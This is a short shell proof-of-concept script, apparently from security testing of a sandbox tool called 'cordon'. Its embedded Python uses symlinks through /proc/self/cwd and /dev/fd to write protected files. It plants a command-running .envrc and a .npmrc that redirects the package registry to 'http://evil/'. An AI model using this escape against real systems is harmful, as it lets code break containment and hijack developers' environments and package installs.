#!/bin/sh
# F2 (deterministic, no race): a symlink whose target goes through /proc
# (/proc/self/cwd, /proc/thread-self/cwd, /dev/fd/N, /proc/PID/root/...) makes
# the observer let O_CREAT through to an absent protected name. In overlay
# mode the file is then applied to the host (changeset_held_back is a stub).
# Usage: 06-protect-proc-symlink.sh [direct|overlay]
C=${CORDON:-/work/wt/attack/build/cordon}
MODE=${1:-direct}
T=$(mktemp -d /tmp/atk-procsym.XXXXXX); chmod 755 "$T"; mkdir "$T/ws"; cd "$T/ws"
cat > zz.py <<'P'
import os
os.symlink('/proc/self/cwd/.envrc', 'x')
fd = os.open('x', os.O_WRONLY | os.O_CREAT, 0o644); os.write(fd, b'echo pwned-by-run\n'); os.close(fd)
dfd = os.open('.', os.O_RDONLY)
os.symlink('/dev/fd/%d/.npmrc' % dfd, 'y')
fd = os.open('y', os.O_WRONLY | os.O_CREAT, 0o644); os.write(fd, b'registry=http://evil/\n'); os.close(fd)
P
"$C" run --workspace-mode "$MODE" --report ../r.json -- python3 zz.py
jq -c '[.verdicts.containment, .changes.state]' ../r.json
for f in .envrc .npmrc; do test -f "$f" && echo "VULNERABLE ($MODE): $T/ws/$f on the host: $(cat $f)"; done
